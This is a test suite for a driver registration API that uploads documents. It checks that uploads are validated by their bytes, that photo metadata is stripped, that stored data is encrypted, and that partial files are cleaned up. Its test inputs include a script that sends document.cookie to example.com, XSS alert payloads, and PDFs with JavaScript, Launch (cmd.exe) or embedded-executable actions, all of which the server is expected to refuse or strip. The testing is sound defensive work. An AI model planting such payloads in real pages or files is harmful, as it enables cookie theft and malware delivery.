import { readEnglishMessages } from '@chalein/testing/validation-messages';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import net, { type AddressInfo } from 'node:net';
import { driverDocumentFields, type DriverDocumentField } from '@chalein/shared/lib/validation/driver-registration';
import { uploadedFileMessages as uploadedFileMessageKeys } from '@chalein/shared/lib/validation/uploaded-files';
import { buildApp } from '../app';
import { migrateToLatest } from '../db/migrate';
import { seedDatabase } from '../db/seed';
import { createTempDir } from '../test-support/temp-dir';
import { buildTestConfig, createTestApp, type TestApp } from '../test-support/test-app';
import { openSecondHandle, readStoredText } from '../test-support/test-database';
import { DRIVER_DOCUMENTS_FOLDER_NAME } from '../uploads/driver-document-storage';
import { waitUntil } from '@chalein/testing/wait-until';
import { encodeMultipart } from '@chalein/testing/multipart-form';
import {
  JPEG_APP1,
  JPEG_COM,
  buildExifWithGps,
  buildJpeg,
  buildPng,
  describePicture,
  insertJpegSegment,
} from '@chalein/testing/files/image-files';
import { buildPdf } from '@chalein/testing/files/pdf-files';
import { driverDocumentFiles, type DocumentFile } from '@chalein/testing/fixtures/driver-documents';
import { driverRegistration } from '@chalein/testing/fixtures/driver-registration';

// answers are in English unless the request asks for another language: the messages as an English page shows them
const uploadedFileMessages = readEnglishMessages(uploadedFileMessageKeys);

// Real SQLite files, real files on disk, requests through Fastify's inject (and one over a real socket).

const KARNATAKA = 11;
const BENGALURU = 'Bengaluru';

// the fixture's pictures, for files made from them
const jpegBytes = driverDocumentFiles.adharCardFrontPhoto.bytes;
const pngBytes = driverDocumentFiles.adharCardBackPhoto.bytes;

let mobileCounter = 0;
/** A fresh valid number per registration, so tests never collide on the unique contact number. */
function nextMobile(): string {
  mobileCounter += 1;
  return `98${String(45_000_000 + mobileCounter).padStart(8, '0')}`;
}

function buildValidFields(overrides: Record<string, string> = {}): Record<string, string> {
  return {
    ...driverRegistration,
    contactNumber: nextMobile(),
    // the city by its name alone, and values typed as a driver may type them: the server finds the one and cleans the others
    cityId: '',
    cityName: BENGALURU,
    vehicleNumber: 'ka 01 ab 1234',
    wheelChair: '1',
    ifscCode: 'sbin0001234',
    reDrivingLicenseNumber: 'KA01-20191234567',
    ...overrides,
  };
}

interface Payload {
  fields: Record<string, string>;
  files: Partial<Record<string, DocumentFile | DocumentFile[]>>;
}

async function encodeRegistration({ fields, files }: Payload): Promise<{ body: Buffer; contentType: string }> {
  const parts = Object.entries(files).flatMap(([field, spec]) =>
    (Array.isArray(spec) ? spec : spec ? [spec] : []).map((file) => ({ field, ...file })),
  );
  const { payload, headers } = await encodeMultipart(fields, parts);
  return { body: payload, contentType: headers['content-type'] };
}

describe('driver registration', () => {
  let testApp: TestApp;
  let privateDir: string;
  let documentsDir: string;
  let bengaluruId: number;

  beforeAll(async () => {
    privateDir = createTempDir('chalein-private-');
    documentsDir = path.join(privateDir, DRIVER_DOCUMENTS_FOLDER_NAME);
    testApp = await createTestApp({ PRIVATE_UPLOADS_DIR: privateDir, RATE_LIMIT_FORMS_PER_MINUTE: '10000' });
    const city = await testApp.app.db.selectFrom('cities').select('id').where('name', '=', BENGALURU).executeTakeFirstOrThrow();
    bengaluruId = city.id;
  });

  afterAll(async () => {
    await testApp.closeTestApp();
    fs.rmSync(privateDir, { recursive: true, force: true });
  });

  function validFields(overrides: Record<string, string> = {}) {
    return buildValidFields({ cityId: String(bengaluruId), ...overrides });
  }

  async function postRegistration(payload: Payload) {
    const { body, contentType } = await encodeRegistration(payload);
    return testApp.app.inject({ method: 'POST', url: '/api/new-registration', headers: { 'content-type': contentType }, payload: body });
  }

  const listStoredFiles = () => (fs.existsSync(documentsDir) ? fs.readdirSync(documentsDir).sort() : []);

  function readRegistrationRow(contactNumber: string) {
    return testApp.app.db.selectFrom('driver_registrations').selectAll().where('contact_number', '=', contactNumber).executeTakeFirst();
  }

  it('stores a full valid registration: one row, eight document rows and eight private files', async () => {
    const fields = validFields({ referralCode: 'FRIEND42', adharCardNumber: '2345 6789 0123' });
    const before = listStoredFiles();
    const response = await postRegistration({ fields, files: driverDocumentFiles });
    expect(response.statusCode).toBe(201);
    const body = response.json();
    expect(body).toEqual({ success: true, message: 'Your form has been submitted successfully.', data: { reference: expect.any(String) } });
    expect(body.data.reference).toMatch(/^CHD-[0-9A-HJKMNP-TV-Z]{4}-[0-9A-HJKMNP-TV-Z]{4}$/);

    const row = await readRegistrationRow(fields.contactNumber!);
    expect(row).toMatchObject({
      reference: body.data.reference,
      full_name: 'Ravi Kumar',
      driver_category: 0,
      referral_code: 'FRIEND42',
      pincode: '560025',
      state_id: KARNATAKA,
      state_name: 'Karnataka',
      city_id: bengaluruId,
      city_name: 'Bengaluru',
      vehicle_category: 2,
      vehicle_number: 'KA01AB1234',
      wheelchair: 1,
      consent_version: expect.any(String),
    });
    // read back through the repository, which decrypts
    expect(await testApp.app.repositories.driverRegistrations.findRegistrationByReference(body.data.reference)).toMatchObject({
      bank_account_number: '123456789012',
      ifsc_code: 'SBIN0001234',
      driving_license_number: 'KA0120191234567',
      date_of_birth: '1990-05-17',
    });

    const documents = await testApp.app.db.selectFrom('driver_documents').selectAll().where('registration_id', '=', row!.id).execute();
    expect(documents.map((document) => document.document_type).sort()).toEqual([...driverDocumentFields].sort());
    const added = listStoredFiles().filter((name) => !before.includes(name));
    expect(added.sort()).toEqual(documents.map((document) => document.stored_name).sort());
    for (const document of documents) {
      const spec = driverDocumentFiles[document.document_type as DriverDocumentField];
      const file = path.join(documentsDir, document.stored_name);
      // the server's own name and the type found in the bytes, never the uploaded name
      expect(document.stored_name).toMatch(/^[0-9a-f-]{36}\.(jpg|png|pdf)$/);
      expect(document.content_type).toBe(spec.type);
      const stored = fs.readFileSync(file);
      if (spec.type === 'application/pdf') expect(stored.equals(spec.bytes)).toBe(true);
      // a picture is kept encoded anew (docs/decisions/0016-upload-limits-and-file-checks.md): the same picture, other bytes
      else expect(describePicture(stored)).toEqual(describePicture(spec.bytes));
      expect(document.byte_size).toBe(stored.length);
      expect(document.sha256).toBe(createHash('sha256').update(stored).digest('hex'));
      expect(fs.statSync(file).mode & 0o777).toBe(0o600);
    }
    expect(listStoredFiles().some((name) => name.endsWith('.part'))).toBe(false);

    // the Aadhaar number sent alongside is nowhere in the database (SQLite: its file and log; PostgreSQL: its rows)
    const raw = await readStoredText(testApp.config);
    expect(raw).not.toContain('2345 6789 0123');
    expect(raw).not.toContain('234567890123');
    // and the account, IFSC, licence and date of birth are there only encrypted (AES-256-GCM, key id in the value)
    for (const plain of ['123456789012', 'SBIN0001234', 'KA0120191234567', '1990-05-17']) expect(raw).not.toContain(plain);
    for (const column of ['bank_account_number', 'ifsc_code', 'driving_license_number', 'date_of_birth'] as const) {
      expect(row![column]).toMatch(/^v1:[A-Za-z0-9_-]+:[A-Za-z0-9_-]{16}:[A-Za-z0-9_-]{22}:[A-Za-z0-9_-]+$/);
    }
  });

  it('stores the English names of the state and city for a driver registering from a Kannada page', async () => {
    // what the Kannada form sends: the ids it lists and the English names beside the Kannada ones it shows
    const fields = validFields({ stateId: String(KARNATAKA), stateName: 'Karnataka', cityName: BENGALURU });
    const { body, contentType } = await encodeRegistration({ fields, files: driverDocumentFiles });
    const response = await testApp.app.inject({
      method: 'POST',
      url: '/api/new-registration',
      headers: { 'content-type': contentType, 'accept-language': 'kn-IN,kn;q=0.9' },
      payload: body,
    });
    expect(response.statusCode).toBe(201);
    expect(await readRegistrationRow(fields.contactNumber!)).toMatchObject({
      state_id: KARNATAKA,
      state_name: 'Karnataka',
      city_id: bengaluruId,
      city_name: BENGALURU,
    });
  });

  it('answers every spec message for an empty form, and keeps nothing', async () => {
    const before = listStoredFiles();
    const response = await postRegistration({ fields: { referralCode: '' }, files: {} });
    expect(response.statusCode).toBe(400);
    const { errors } = response.json();
    expect(errors).toMatchObject({
      fullName: 'Name is required.',
      address: 'Address is required.',
      pincode: 'Pincode is required.',
      wheelChair: 'Please Select Yes/No  required.',
      vehicle_category: 'Vehicle Category is required.',
      contactNumber: 'Contact number is required',
      driver_category: 'Driver category is required.',
      vehicleNumber: 'Vehicle Number is required.',
      bankAccNo: 'Account Number is required',
      ifscCode: 'IFSC Number is required',
      drivingLicenseNo: 'Driving License is required',
      dob: 'Date Of Birth is required',
      stateId: 'Please choose your state.',
      cityId: 'Please choose your city.',
      consent: 'Please agree to the use of your details and documents to continue.',
    });
    for (const field of driverDocumentFields) expect(errors[field]).toBe('Please upload this document.');
    expect(listStoredFiles()).toEqual(before);
  });

  it.each(driverDocumentFields)('refuses a registration without %s and keeps none of the other files', async (missing) => {
    const before = listStoredFiles();
    const files: Payload['files'] = { ...driverDocumentFiles };
    delete files[missing];
    const response = await postRegistration({ fields: validFields(), files });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({
      success: false,
      message: 'Please upload this document.',
      errors: { [missing]: 'Please upload this document.' },
    });
    expect(listStoredFiles()).toEqual(before);
  });

  it('checks documents by their bytes: a web page named aadhaar.jpg is refused', async () => {
    const before = listStoredFiles();
    const fake: DocumentFile = { bytes: Buffer.from('<html><script>alert(1)</script></html>'), name: 'aadhaar.jpg', type: 'image/jpeg' };
    const gif: DocumentFile = { bytes: Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1'), name: 'insurance.pdf', type: 'application/pdf' };
    const response = await postRegistration({
      fields: validFields(),
      files: { ...driverDocumentFiles, adharCardFrontPhoto: fake, vehicleInsurancePhoto: gif },
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().errors).toEqual({
      adharCardFrontPhoto: 'Please upload a JPEG, PNG, or PDF file.',
      vehicleInsurancePhoto: 'Please upload a JPEG, PNG, or PDF file.',
    });
    expect(listStoredFiles()).toEqual(before);
  });

  it('refuses files that only start with the right bytes: a header-only JPEG, a cut PNG, a PDF with no trailer', async () => {
    const before = listStoredFiles();
    const headerOnly: DocumentFile = {
      bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00]), Buffer.alloc(2000, 7)]),
      name: 'licence-back.jpg',
      type: 'image/jpeg',
    };
    const cutPng: DocumentFile = { bytes: pngBytes.subarray(0, pngBytes.length - 20), name: 'aadhaar-back.png', type: 'image/png' };
    const noTrailer: DocumentFile = {
      bytes: Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n', 'latin1'),
      name: 'rc.pdf',
      type: 'application/pdf',
    };
    const response = await postRegistration({
      fields: validFields(),
      files: {
        ...driverDocumentFiles,
        drivingLicenseBackPhoto: headerOnly,
        adharCardBackPhoto: cutPng,
        registrationCertificateNoFrontPhoto: noTrailer,
      },
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().errors).toEqual({
      drivingLicenseBackPhoto: 'Please upload a JPEG, PNG, or PDF file.',
      adharCardBackPhoto: 'Please upload a JPEG, PNG, or PDF file.',
      registrationCertificateNoFrontPhoto: 'Please upload a JPEG, PNG, or PDF file.',
    });
    expect(listStoredFiles()).toEqual(before);
  });

  it('keeps a phone photo without its GPS position, its comment or the HTML page appended to it', async () => {
    const html = '<html><body><script>fetch("https://example.com/?"+document.cookie)</script></body></html>';
    // taken sideways in Bengaluru: EXIF orientation 6 and the GPS position, an HTML comment, an HTML page after the end
    const photo = Buffer.concat([
      insertJpegSegment(
        insertJpegSegment(buildJpeg(40, 24), JPEG_COM, Buffer.from(html)),
        JPEG_APP1,
        buildExifWithGps(6, [12, 58, 20], [77, 35, 40]),
      ),
      Buffer.from(html),
    ]);
    const fields = validFields();
    const response = await postRegistration({
      fields,
      files: { ...driverDocumentFiles, drivingLicenseFrontPhoto: { bytes: photo, name: 'licence-front.jpg', type: 'image/jpeg' } },
    });
    expect(response.statusCode).toBe(201);
    const row = await readRegistrationRow(fields.contactNumber!);
    const document = await testApp.app.db
      .selectFrom('driver_documents')
      .selectAll()
      .where('registration_id', '=', row!.id)
      .where('document_type', '=', 'drivingLicenseFrontPhoto')
      .executeTakeFirstOrThrow();
    const stored = fs.readFileSync(path.join(documentsDir, document.stored_name));
    for (const trace of ['<script', 'Exif', 'PhoneCo', 'GPS']) expect(stored.includes(Buffer.from(trace, 'latin1'))).toBe(false);
    // turned upright before its orientation tag went
    expect(describePicture(stored)).toEqual({ type: 'jpeg', width: 24, height: 40 });
    expect(document).toMatchObject({ content_type: 'image/jpeg', byte_size: stored.length });
  });

  it('refuses PDFs that carry JavaScript, a Launch action, an embedded file, HTML between objects or bytes after %%EOF', async () => {
    const before = listStoredFiles();
    const html = '<html><script>alert(document.domain)</script></html>\n';
    const pdf = (bytes: Buffer, name: string): DocumentFile => ({ bytes, name, type: 'application/pdf' });
    const embedded = ['<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream', '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>'];
    const response = await postRegistration({
      fields: validFields(),
      files: {
        ...driverDocumentFiles,
        chequeBook: pdf(buildPdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }), 'cheque-book.pdf'),
        registrationCertificateNoFrontPhoto: pdf(buildPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'rc.pdf'),
        vehicleInsurancePhoto: pdf(
          buildPdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 7 0 R] >> >>', objects: embedded }),
          'insurance.pdf',
        ),
        drivingLicenseBackPhoto: pdf(buildPdf({ objects: ['<< /Producer (x) >>'], between: html }), 'licence-back.pdf'),
        chequePhoto: pdf(buildPdf({ after: html }), 'cheque.pdf'),
      },
    });
    expect(response.statusCode).toBe(400);
    const refused = uploadedFileMessages.documentPdfNotPlain;
    expect(response.json().errors).toEqual({
      chequeBook: refused,
      registrationCertificateNoFrontPhoto: refused,
      vehicleInsurancePhoto: refused,
      drivingLicenseBackPhoto: refused,
      chequePhoto: refused,
    });
    expect(listStoredFiles()).toEqual(before);
  });

  it('refuses an encrypted PDF and an oversized picture, each with its own message', async () => {
    const before = listStoredFiles();
    const encrypted = buildPdf({ objects: ['<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>'], trailer: '/Encrypt 6 0 R' });
    const huge = buildPng(4, 4);
    huge.writeUInt32BE(13_000, 16);
    huge.writeUInt32BE(13_000, 20);
    huge.writeUInt32BE(zlib.crc32(huge.subarray(12, 29)), 29);
    const response = await postRegistration({
      fields: validFields(),
      files: {
        ...driverDocumentFiles,
        vehicleInsurancePhoto: { bytes: encrypted, name: 'insurance.pdf', type: 'application/pdf' },
        adharCardBackPhoto: { bytes: huge, name: 'aadhaar-back.png', type: 'image/png' },
      },
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().errors).toEqual({
      vehicleInsurancePhoto: uploadedFileMessages.documentPdfProtected,
      adharCardBackPhoto: uploadedFileMessages.pictureTooLarge,
    });
    expect(listStoredFiles()).toEqual(before);
  });

  it('refuses mismatched account and licence numbers with the spec messages', async () => {
    const response = await postRegistration({
      fields: validFields({ reBankAccNo: '123456789013', reDrivingLicenseNumber: 'KA01 20191234568' }),
      files: driverDocumentFiles,
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().errors).toEqual({
      reBankAccNo: 'Account numbers do not match',
      reDrivingLicenseNumber: 'Driving License numbers do not match',
    });
  });

  it('checks the Indian formats and the age, with the same messages as the form', async () => {
    const response = await postRegistration({
      fields: validFields({
        pincode: '060025',
        ifscCode: 'SBIN1234567',
        vehicleNumber: 'KA 1234',
        drivingLicenseNo: 'KA01 2019',
        reDrivingLicenseNumber: 'KA01 2019',
        dob: new Date(Date.now() - 17 * 365.25 * 86_400_000).toISOString().slice(0, 10),
        contactNumber: '98765',
      }),
      files: driverDocumentFiles,
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().errors).toEqual({
      pincode: 'Enter a valid 6-digit PIN code (it cannot start with 0).',
      ifscCode: 'Enter a valid IFSC code, like SBIN0001234.',
      vehicleNumber: 'Enter a valid vehicle registration number, like KA 01 AB 1234 or 22 BH 1234 AB.',
      drivingLicenseNo: 'Enter a valid driving licence number, like KA01 20191234567.',
      dob: 'You must be at least 18 years old to drive with Chalein.',
      contactNumber: 'Contact number must be exactly 10 digits',
    });
  });

  it('takes the state and city from its own list: a city of another state is refused', async () => {
    const mumbai = await testApp.app.db.selectFrom('cities').select('id').where('name', '=', 'Mumbai').executeTakeFirstOrThrow();
    const response = await postRegistration({
      fields: validFields({ cityId: String(mumbai.id), cityName: 'Bengaluru' }),
      files: driverDocumentFiles,
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().errors).toEqual({ cityId: 'Please choose a city in the chosen state.' });
  });

  it('refuses an oversize document with 413, names it, and keeps no file', async () => {
    const before = listStoredFiles();
    const big: DocumentFile = { bytes: Buffer.concat([jpegBytes, Buffer.alloc(5 * 1024 * 1024)]), name: 'big.jpg', type: 'image/jpeg' };
    const response = await postRegistration({ fields: validFields(), files: { ...driverDocumentFiles, chequePhoto: big } });
    expect(response.statusCode).toBe(413);
    expect(response.json()).toEqual({
      success: false,
      message: 'Each document must be 5 MB or smaller.',
      errors: { chequePhoto: 'Each document must be 5 MB or smaller.' },
    });
    expect(listStoredFiles()).toEqual(before);
  });

  it('refuses a ninth file and a second file for one document', async () => {
    const before = listStoredFiles();
    const ninth = await postRegistration({
      fields: validFields(),
      files: { ...driverDocumentFiles, extraPhoto: driverDocumentFiles.chequePhoto },
    });
    expect(ninth.statusCode).toBe(413);
    expect(ninth.json().message).toBe('Please send one file for each of the eight documents, and nothing else.');

    const files: Payload['files'] = {
      ...driverDocumentFiles,
      chequePhoto: [driverDocumentFiles.chequePhoto, driverDocumentFiles.chequePhoto],
    };
    delete files.vehicleInsurancePhoto;
    const twice = await postRegistration({ fields: validFields(), files });
    expect(twice.statusCode).toBe(400);
    expect(twice.json().errors).toEqual({
      chequePhoto: 'Please choose one file for this document.',
      vehicleInsurancePhoto: 'Please upload this document.',
    });
    expect(listStoredFiles()).toEqual(before);
  });

  it('answers a body cut off in the middle of a document with 400, and keeps no part of it', async () => {
    const before = listStoredFiles();
    const { body, contentType } = await encodeRegistration({ fields: validFields(), files: driverDocumentFiles });
    const cut = body.subarray(0, body.indexOf(Buffer.from('%PDF-')) + 20);
    const response = await testApp.app.inject({
      method: 'POST',
      url: '/api/new-registration',
      headers: { 'content-type': contentType },
      payload: cut,
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().message).toBe('The upload could not be read. Please try again.');
    expect(listStoredFiles()).toEqual(before);
  });

  it('refuses a registration that is not multipart', async () => {
    const response = await testApp.app.inject({ method: 'POST', url: '/api/new-registration', payload: validFields() });
    expect(response.statusCode).toBe(415);
    expect(response.json()).toEqual({ success: false, message: 'Send the registration as multipart/form-data.' });
  });

  it('refuses a second registration of the same number, also when two race past the check', async () => {
    const fields = validFields();
    expect((await postRegistration({ fields, files: driverDocumentFiles })).statusCode).toBe(201);
    const again = await postRegistration({ fields: { ...fields, fullName: 'Someone Else' }, files: driverDocumentFiles });
    expect(again.statusCode).toBe(409);
    const registered = 'This contact number is already registered with Chalein. Please sign in to the Driver App instead.';
    expect(again.json()).toEqual({ success: false, message: registered, errors: { contactNumber: registered } });

    const before = listStoredFiles();
    const racing = validFields();
    const answers = await Promise.all([
      postRegistration({ fields: racing, files: driverDocumentFiles }),
      postRegistration({ fields: racing, files: driverDocumentFiles }),
    ]);
    expect(answers.map((answer) => answer.statusCode).sort()).toEqual([201, 409]);
    // the loser's eight files are gone, the winner's eight are kept
    expect(listStoredFiles().length - before.length).toBe(8);
  });

  describe('POST /api/new-registration/mobile/validate', () => {
    const validate = (payload: unknown) =>
      testApp.app.inject({ method: 'POST', url: '/api/new-registration/mobile/validate', payload: payload as object });

    it('accepts a new number', async () => {
      const response = await validate({ contactNumber: nextMobile() });
      expect(response.statusCode).toBe(200);
      expect(response.json()).toEqual({ success: true, message: 'This contact number can be used.' });
    });

    it('refuses a registered number with a clear message', async () => {
      const fields = validFields();
      expect((await postRegistration({ fields, files: driverDocumentFiles })).statusCode).toBe(201);
      const response = await validate({ contactNumber: fields.contactNumber });
      expect(response.statusCode).toBe(409);
      expect(response.json().message).toBe(
        'This contact number is already registered with Chalein. Please sign in to the Driver App instead.',
      );
    });

    it('checks the format with the form messages', async () => {
      const short = await validate({ contactNumber: '98765' });
      expect(short.statusCode).toBe(400);
      expect(short.json()).toEqual({
        success: false,
        message: 'Contact number must be exactly 10 digits',
        errors: { contactNumber: 'Contact number must be exactly 10 digits' },
      });
      expect((await validate({ contactNumber: '98765abcde' })).json().message).toBe('Contact number must be exactly 10 digits');
      expect((await validate({ contactNumber: '  ' })).json().message).toBe('Contact number is required');
      expect((await validate({})).json().message).toBe('Contact number is required');
    });
  });

  it('never serves the documents: their names are not reachable by any URL', async () => {
    const stored = listStoredFiles()[0]!;
    for (const url of [
      `/uploads/${stored}`,
      `/uploads/driver-documents/${stored}`,
      `/driver-documents/${stored}`,
      `/api/driver-documents/${stored}`,
    ]) {
      const response = await testApp.app.inject({ method: 'GET', url });
      expect(response.body).not.toContain('JFIF');
      expect(response.body.startsWith('%PDF')).toBe(false);
    }
  });
});

describe('driver registration over a real socket', () => {
  let testApp: TestApp;
  let privateDir: string;

  beforeAll(async () => {
    privateDir = createTempDir('chalein-private-');
    testApp = await createTestApp({ PRIVATE_UPLOADS_DIR: privateDir, RATE_LIMIT_FORMS_PER_MINUTE: '3' });
    await testApp.app.listen({ port: 0, host: '127.0.0.1' });
  });

  afterAll(async () => {
    await testApp.closeTestApp();
    fs.rmSync(privateDir, { recursive: true, force: true });
  });

  it('answers an oversize upload with 413 that the client receives, then limits the rate with 429', async () => {
    const { port } = testApp.app.server.address() as AddressInfo;
    const url = `http://127.0.0.1:${port}/api/new-registration`;
    const fields = buildValidFields({ cityId: '1' });
    const big: DocumentFile = {
      bytes: Buffer.concat([pngBytes, Buffer.alloc(6 * 1024 * 1024, 1)]),
      name: 'big.png',
      type: 'image/png',
    };
    const send = async (files: Payload['files']) => {
      const { body, contentType } = await encodeRegistration({ fields, files });
      return fetch(url, { method: 'POST', headers: { 'content-type': contentType }, body: new Uint8Array(body) });
    };
    const oversize = await send({ ...driverDocumentFiles, drivingLicenseBackPhoto: big });
    expect(oversize.status).toBe(413);
    expect(await oversize.json()).toMatchObject({ errors: { drivingLicenseBackPhoto: 'Each document must be 5 MB or smaller.' } });

    const statuses: number[] = [];
    for (let i = 0; i < 3; i += 1) statuses.push((await send({})).status);
    expect(statuses).toEqual([400, 400, 429]);
    const documentsDir = path.join(privateDir, DRIVER_DOCUMENTS_FOLDER_NAME);
    expect(fs.existsSync(documentsDir) ? fs.readdirSync(documentsDir) : []).toEqual([]);
  });
});

describe('a driver whose connection drops in the middle of the upload', () => {
  it('leaves no file behind and keeps the server answering', async () => {
    const privateDir = createTempDir('chalein-private-');
    const testApp = await createTestApp({ PRIVATE_UPLOADS_DIR: privateDir });
    try {
      await testApp.app.listen({ port: 0, host: '127.0.0.1' });
      const { port } = testApp.app.server.address() as AddressInfo;
      const { body, contentType } = await encodeRegistration({ fields: buildValidFields(), files: driverDocumentFiles });
      const socket = net.connect(port, '127.0.0.1');
      await new Promise<void>((resolve) => socket.once('connect', resolve));
      socket.write(
        `POST /api/new-registration HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: ${contentType}\r\nContent-Length: ${body.length}\r\n\r\n`,
      );
      // half the body, cut in the middle of a document, then the connection is gone: once the server is storing
      // that document (its .part file is there)
      socket.write(body.subarray(0, body.indexOf(Buffer.from('%PDF-')) + 20));
      const documentsDir = path.join(privateDir, DRIVER_DOCUMENTS_FOLDER_NAME);
      const listDocuments = () => (fs.existsSync(documentsDir) ? fs.readdirSync(documentsDir) : []);
      await waitUntil(() => listDocuments().some((name) => name.endsWith('.part')), 'the server to start storing the upload');
      socket.destroy();

      await waitUntil(
        () => listDocuments().length === 0,
        () => `the partial upload to be removed (left: ${listDocuments().join(', ')})`,
        {
          timeoutMs: 8000,
        },
      );
      const health = await fetch(`http://127.0.0.1:${port}/api/health`);
      expect(health.status).toBe(200);
    } finally {
      await testApp.closeTestApp();
      fs.rmSync(privateDir, { recursive: true, force: true });
    }
  }, 15_000);
});

describe('the sweep for what a crash left behind', () => {
  it('at start, finishes the renames of committed rows and removes stale .part files that no row names', async () => {
    const dir = createTempDir();
    const privateDir = path.join(dir, 'private');
    const config = buildTestConfig(dir, { PRIVATE_UPLOADS_DIR: privateDir, RATE_LIMIT_FORMS_PER_MINUTE: '100' });
    const documentsDir = path.join(privateDir, DRIVER_DOCUMENTS_FOLDER_NAME);
    try {
      const first = buildApp(config);
      await first.ready();
      await migrateToLatest(first.db);
      await seedDatabase(first.db);
      const city = await first.db.selectFrom('cities').select('id').where('name', '=', BENGALURU).executeTakeFirstOrThrow();
      const { body, contentType } = await encodeRegistration({
        fields: buildValidFields({ cityId: String(city.id) }),
        files: driverDocumentFiles,
      });
      const created = await first.inject({
        method: 'POST',
        url: '/api/new-registration',
        headers: { 'content-type': contentType },
        payload: body,
      });
      expect(created.statusCode).toBe(201);
      await first.close();

      // A crash between the commit and the renames: two of the registration's files are still .part files.
      const stored = fs.readdirSync(documentsDir).sort();
      expect(stored).toHaveLength(8);
      for (const name of stored.slice(0, 2)) {
        fs.renameSync(path.join(documentsDir, name), path.join(documentsDir, `${name.replace(/\.\w+$/, '')}.part`));
      }
      // A crash before the commit: an upload no row names, untouched for an hour; and one still being written.
      const stale = path.join(documentsDir, '0b6e4f00-1111-4222-8333-444455556666.part');
      const fresh = path.join(documentsDir, '0b6e4f00-1111-4222-8333-777788889999.part');
      fs.writeFileSync(stale, jpegBytes);
      fs.writeFileSync(fresh, jpegBytes);
      const anHourAgo = new Date(Date.now() - 60 * 60_000);
      fs.utimesSync(stale, anHourAgo, anHourAgo);

      // the sweep runs when the server starts listening
      const second = buildApp(config);
      await second.listen({ port: 0, host: '127.0.0.1' });
      await second.close();

      expect(fs.readdirSync(documentsDir).sort()).toEqual([...stored, path.basename(fresh)].sort());
      const db = openSecondHandle(config);
      try {
        const names = await db.selectFrom('driver_documents').select('stored_name').execute();
        expect(names.map((row) => row.stored_name).sort()).toEqual(stored);
      } finally {
        await db.destroy();
      }
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
